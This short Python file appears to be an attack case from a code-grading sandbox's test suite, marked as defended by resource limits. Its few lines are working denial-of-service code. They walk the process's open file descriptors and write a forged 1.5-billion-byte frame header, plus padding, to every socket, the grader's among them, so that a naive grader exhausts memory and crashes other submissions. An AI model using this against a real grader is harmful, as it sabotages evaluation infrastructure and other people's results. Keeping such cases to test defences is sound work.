# attack: write a frame header declaring 1.4 GiB on every socket the student's process holds, the grader's among them: a grader that reads a whole frame before checking its size runs out of memory, and takes every submission graded beside it down
# defended-by: limits
import os as _os
import stat as _stat
import struct as _struct

for _fd in sorted(int(_f) for _f in _os.listdir("/proc/self/fd")):
    try:
        if _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
            _os.write(_fd, _struct.pack("!Q", 1_500_000_000) + b"\0" * (1 << 16))
    except OSError:
        pass
